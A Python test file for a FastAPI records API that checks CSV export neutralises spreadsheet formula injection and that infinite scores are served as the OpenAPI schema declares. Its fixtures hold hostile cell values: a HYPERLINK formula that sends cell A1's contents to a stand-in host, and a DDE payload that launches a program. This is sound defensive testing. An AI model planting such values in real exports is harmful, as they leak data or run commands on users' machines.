"""What the API serves of hostile or extreme stored values, on SQLite and PostgreSQL: record text
that a spreadsheet would run as a formula, and infinite scores (which storage accepts), served
the way /openapi.json declares them."""

from __future__ import annotations

import csv
import io
import json
import math

from fastapi.testclient import TestClient
from sqlalchemy.orm import Session, sessionmaker

from storage.repository import write_flagged
from tests.support.api_data import MODEL_A, flagged

FORMULA = '=HYPERLINK("http://x/?"&A1,"click")'


def test_csv_export_neutralises_formulas_and_keeps_numbers(
    client: TestClient, sessions: sessionmaker[Session]
) -> None:
    hostile = flagged(
        1,
        record_id=FORMULA,
        key=b"@SUM(1+1)*cmd|' /C calc'!A0",
        topic="+payments",
        top_feature="-2+3",
        density=-1.5,  # a negative number stays a number
    )
    write_flagged(sessions, [hostile, flagged(2)], [MODEL_A])

    text = client.get("/api/flagged", params={"format": "csv", "desc": "false"}).text
    rows = list(csv.DictReader(io.StringIO(text)))

    assert rows[0]["record_id"] == "'" + FORMULA
    assert rows[0]["key"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[0]["topic"] == "'+payments"
    assert rows[0]["top_feature"] == "'-2+3"
    assert rows[0]["density"] == "-1.5" and rows[1]["density"] == str(flagged(2).density)
    assert rows[1]["record_id"] == flagged(2).record_id  # harmless text is left alone
    # every text cell is quoted, numbers bare (the other half of OWASP's recipe)
    first = text.splitlines()[1]
    assert first.startswith('1,"\'+payments",')
    # JSON lines are data, not a spreadsheet: unchanged
    line = client.get("/api/flagged", params={"format": "jsonl", "desc": "false"}).text
    assert json.loads(line.splitlines()[0])["record_id"] == FORMULA


def test_infinite_scores_are_served_as_the_schema_declares(
    client: TestClient, sessions: sessionmaker[Session]
) -> None:
    far = flagged(1, density=math.inf, score=math.inf, cluster_distance=math.inf)
    write_flagged(
        sessions,
        [far, flagged(2), flagged(3, reconstruction=-math.inf, score=-math.inf)],
        [MODEL_A],
    )

    page = client.get("/api/flagged", params={"sort": "score", "limit": 2}).json()
    top = page["records"][0]
    assert (top["score"], top["density"], top["cluster_distance"]) == ("Infinity",) * 3
    third = client.get("/api/flagged", params={"cursor": page["next_cursor"], "sort": "score"})
    assert third.json()["records"][0]["reconstruction"] == "-Infinity"
    detail = client.get(f"/api/flagged/{top['id']}").json()
    assert detail["density"] == "Infinity" and detail["p_value"] == far.p_value
    jsonl = client.get("/api/flagged", params={"format": "jsonl", "sort": "score"}).text
    assert json.loads(jsonl.splitlines()[0])["score"] == "Infinity"
    exported = client.get("/api/flagged", params={"format": "csv", "sort": "score"}).text
    assert next(csv.DictReader(io.StringIO(exported)))["score"] == "Infinity"

    schema = client.get("/openapi.json").json()["components"]["schemas"]
    declared = schema["FlaggedSummaryOut"]["properties"]["score"]
    assert {"type": "number"} in declared["anyOf"]
    assert {"type": "string", "enum": ["Infinity", "-Infinity", "NaN"]} in declared["anyOf"]


def test_models_say_the_severity_their_flags_start_at(
    client: TestClient, sessions: sessionmaker[Session]
) -> None:
    write_flagged(sessions, [flagged(1)], [MODEL_A])  # calibration fpr 0.01
    (model,) = client.get("/api/models").json()
    assert model["flag_severity"] == 33.333  # p = 0.01 on the log scale to p = 1e-6
